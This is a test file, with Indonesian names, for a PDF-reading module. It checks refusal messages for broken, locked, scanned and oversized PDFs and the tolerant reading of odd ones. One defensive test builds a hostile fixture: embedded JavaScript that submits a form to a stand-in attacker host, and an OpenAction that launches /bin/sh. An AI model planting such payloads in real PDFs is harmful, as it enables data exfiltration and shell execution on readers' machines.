import { PDFDocument, PDFName, PDFString } from "@cantoo/pdf-lib";
import { describe, expect, it } from "vitest";
import { bacaPdfTerjaga } from "../../scripts/cli/impor/baca-pdf.ts";
import { bacaPdf } from "../../scripts/impor/pdf/dokumen.ts";
import { EnvironmentFault } from "../../scripts/model/fault.ts";
import { bom, Kertas, PENGISI, ringkas } from "./pdf-buatan.ts";

const sehat = async (): Promise<Kertas> => (await Kertas.buka()).alinea(PENGISI);

async function terkunci(options: { userPassword?: string; ownerPassword?: string }): Promise<Uint8Array> {
	const { doc } = await sehat();
	doc.encrypt(options);
	return doc.save();
}

async function berhalaman(jumlah: number): Promise<Uint8Array> {
	const doc = await PDFDocument.create({ updateMetadata: false });
	for (let nomor = 0; nomor < jumlah; nomor++) doc.addPage([200, 200]);
	return doc.save();
}

/** A page of shapes that are letters only to the eye: glyphs of a typeface that names none of them. */
async function tanpaHuruf(): Promise<Uint8Array> {
	const kertas = await Kertas.buka();
	const shift = (letter: string) => String.fromCharCode(letter.charCodeAt(0) + 2);
	const rot = PENGISI.replace(/[a-xA-X]/g, shift);
	for (let at = 0; at < 4; at++) kertas.alinea(rot);
	return kertas.simpan();
}

const simpan = async (kertas: Promise<Kertas>): Promise<Uint8Array> => (await kertas).simpan();
const tengah = async (bytes: Promise<Uint8Array>): Promise<Uint8Array> => (await bytes).subarray(0, 400);

describe("what cannot be read is refused in one line that says what to do", () => {
	it.each<[string, () => Promise<Uint8Array>, RegExp]>([
		["nothing but its first line", async () => Buffer.from("%PDF-1.7\n"), /rusak atau terpotong; mintalah/],
		["half a file", () => tengah(simpan(sehat())), /rusak atau terpotong/],
		["a locked file", () => terkunci({ userPassword: "rahasia" }), /terkunci kata sandi; buka dengan sandinya/],
		["a scan", () => berhalaman(3), /hasil pindai: berisi gambar tanpa teks\. Jalankan pengenalan huruf/],
		["more pages than any naskah", () => berhalaman(301), /301 halaman; batasnya 300/],
		["letters that mean nothing", tanpaHuruf, /tidak dapat dibaca: hurufnya tersemat tanpa keterangan/],
	])("%s", async (_, make, pesan) => {
		const refused = bacaPdf(await make());
		await expect(refused).rejects.toThrow(EnvironmentFault);
		await expect(refused).rejects.toThrow(pesan);
		await expect(refused).rejects.not.toThrow(/\n/);
	});

	it("a page that unpacks to more than the memory allowed is ended, whatever it is doing", async () => {
		await expect(bacaPdfTerjaga(await bom(150), { memori: 300 * 1024 * 1024 })).rejects.toThrow(
			/jauh lebih besar atau lebih rumit daripada naskah mana pun/,
		);
	});

	it("and one that takes longer than the time allowed", async () => {
		await expect(bacaPdfTerjaga(await simpan(sehat()), { waktu: 1 })).rejects.toThrow(/terlalu|lebih rumit/);
	});
});

describe("what is strange and harmless is read", () => {
	it("without the table of its objects, and with a header before its first line", async () => {
		const bytes = Buffer.from(await (await sehat()).doc.save({ useObjectStreams: false }));
		const broken = Buffer.from(bytes.toString("latin1").replace(/startxref\n\d+/, "startxref\n999999"), "latin1");
		expect((await bacaPdf(Buffer.concat([Buffer.from("sampah\n"), broken]))).paragraf.map(ringkas)).toEqual([PENGISI]);
	});

	it("one that only restricts copying, and says so", async () => {
		const { paragraf, catatan } = await bacaPdf(await terkunci({ ownerPassword: "pemilik" }));
		expect(paragraf.map(ringkas)).toEqual([PENGISI]);
		expect(catatan.join()).toMatch(/membatasi penyalinannya/);
	});

	it("scripts and attachments are not looked at", async () => {
		const kertas = await sehat();
		const { doc } = kertas;
		doc.addJavaScript("jahat", "app.alert('x'); this.submitForm('http://jahat.example')");
		doc.catalog.set(PDFName.of("OpenAction"), doc.context.obj({ S: "Launch", F: PDFString.of("/bin/sh") }));
		await doc.attach(Buffer.from("# Lampiran jahat"), "jahat.md");
		expect((await kertas.baca()).map(ringkas)).toEqual([PENGISI]);
	});

	it("letters that a scanner's program guessed, and says that they are to be compared", async () => {
		const kertas = (await Kertas.buka()).alinea(PENGISI, 72, 72, { takTampak: true });
		const { paragraf, catatan } = await bacaPdf(await kertas.simpan());
		expect(paragraf.map(ringkas)).toEqual([PENGISI]);
		expect(catatan.join()).toMatch(/hasil pengenalan huruf \(OCR\).*cocokkan huruf demi huruf/);
	});

	it("pages without text are named", async () => {
		const kertas = (await sehat()).halamanBaru().halamanBaru();
		kertas.alinea(PENGISI);
		const { catatan, halaman } = await bacaPdf(await kertas.simpan());
		expect(halaman).toBe(3);
		expect(catatan).toEqual([expect.stringMatching(/^Halaman 2 tanpa teks/)]);
	});

	it("a page that lies on its side by being turned", async () => {
		const doc = await PDFDocument.create({ updateMetadata: false });
		const page = doc.addPage([842, 595]);
		const { degrees } = await import("@cantoo/pdf-lib");
		page.setRotation(degrees(90));
		page.drawText("Lampiran yang diputar", { x: 500, y: 72, size: 12, rotate: degrees(90) });
		expect((await bacaPdf(await doc.save())).paragraf.map(ringkas)).toEqual(["Lampiran yang diputar"]);
	});

	it("in a process of its own it reads the same", async () => {
		const bytes = await (await sehat()).simpan();
		expect(await bacaPdfTerjaga(bytes)).toEqual(JSON.parse(JSON.stringify(await bacaPdf(bytes))));
	});
});
